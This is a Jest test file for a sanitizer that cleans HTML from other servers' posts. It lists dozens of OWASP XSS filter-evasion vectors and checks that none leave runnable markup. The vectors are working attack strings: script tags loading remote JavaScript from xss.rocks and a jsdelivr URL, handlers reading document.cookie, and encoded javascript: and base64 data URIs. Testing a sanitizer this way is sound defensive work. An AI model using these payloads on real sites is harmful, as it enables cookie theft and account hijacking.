/**
 * @jest-environment ../tooling/jest/jsdom-environment.cjs
 */
import { cleanRemoteHtml, textOfCleanHtml } from 'api-core/remote-html';

/**
 * The HTML of other servers' posts as it is stored (issue 38): the vectors of OWASP's XSS Filter
 * Evasion Cheat Sheet, each cleaned to markup a browser runs nothing from.
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
const owaspVectors = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click Me!</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">Click Me</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">Click Me</a>`,
  `<a href="jav	ascript:alert('XSS');">Click Me</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">Click Me</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">Click Me</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">Click Me</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">Click Me</a>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="http://66.102.7.147/">XSS</A>`,
  `<A HREF="//www.google.com/">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<p><a href="https://ok.example/" class="mention evil" id="x" style="position:fixed">@ok</a></p>`,
];

const allowedTags = new Set(['p', 'br', 'a', 'span']);
const allowedAttributes = new Set(['href', 'class', 'rel', 'target']);

/** The little of jsdom's document this reads (the server's types know no DOM). */
type ParsedElement = { tagName: string; attributes: ArrayLike<{ name: string; value: string }> };
declare const document: {
  createElement(tag: 'template'): { innerHTML: string; content: { querySelectorAll(selector: string): ArrayLike<ParsedElement> } };
};

/** Every element of `html` with its attributes' names and values, as a browser reads them. */
function tagsOf(html: string): Array<{ tag: string; attributes: Array<[string, string]> }> {
  const template = document.createElement('template');
  template.innerHTML = html;
  return Array.from(template.content.querySelectorAll('*')).map((element) => ({
    tag: element.tagName.toLowerCase(),
    attributes: Array.from(element.attributes).map((attribute) => [attribute.name, attribute.value] as [string, string]),
  }));
}

describe('the HTML of other servers’ posts', () => {
  test.each(owaspVectors.map((vector, index) => [index + 1, vector]))('OWASP vector %i leaves nothing that runs', (_index, vector) => {
    const clean = cleanRemoteHtml(vector);
    for (const { tag, attributes } of tagsOf(clean)) {
      expect(allowedTags).toContain(tag);
      for (const [name, value] of attributes) {
        expect(allowedAttributes).toContain(name);
        if (name === 'href') expect(value).toMatch(/^https?:\/\/[^\s]/);
      }
    }
    // Words such as "javascript:" may stay, as text: only markup runs.
    expect(clean).not.toMatch(/<\s*(script|style|iframe|img|svg|math|object|embed|meta|link|base)/i);
  });

  test('what Mastodon writes is kept: paragraphs, line breaks, mentions, hashtags and links, opened apart', () => {
    const mastodon =
      '<p>Hi <span class="h-card" translate="no"><a href="https://town.example/profile/omarh" class="u-url mention">@<span>omarh</span></a></span>,</p>' +
      '<p>see <a href="https://peer.example/tags/garden" class="mention hashtag" rel="tag">#<span>garden</span></a><br />and ' +
      '<a href="https://example.com/a/long/path" target="_blank" rel="nofollow noopener" translate="no"><span class="invisible">https://</span><span class="ellipsis">example.com/a/long</span><span class="invisible">/path</span></a></p>';
    const clean = cleanRemoteHtml(mastodon);
    expect(clean).toBe(
      '<p>Hi <span class="h-card"><a href="https://town.example/profile/omarh" class="u-url mention" rel="nofollow noopener noreferrer" target="_blank">@<span>omarh</span></a></span>,</p>' +
        '<p>see <a href="https://peer.example/tags/garden" class="mention hashtag" rel="nofollow noopener noreferrer" target="_blank">#<span>garden</span></a><br />and ' +
        '<a href="https://example.com/a/long/path" target="_blank" rel="nofollow noopener noreferrer"><span class="invisible">https://</span><span class="ellipsis">example.com/a/long</span><span class="invisible">/path</span></a></p>',
    );
    expect(textOfCleanHtml(clean)).toBe('Hi @omarh,\n\nsee #garden\nand example.com/a/long');
  });

  test('a tag that is not kept keeps its words; a script and a style go whole', () => {
    expect(cleanRemoteHtml('<p><b>bold</b> <em>and</em> <script>alert(1)</script><style>p{}</style>plain</p>')).toBe(
      '<p>bold and plain</p>',
    );
    expect(textOfCleanHtml(cleanRemoteHtml('<p>1 &lt; 2 &amp;&amp; "quoted"</p>'))).toBe('1 < 2 && "quoted"');
  });
});
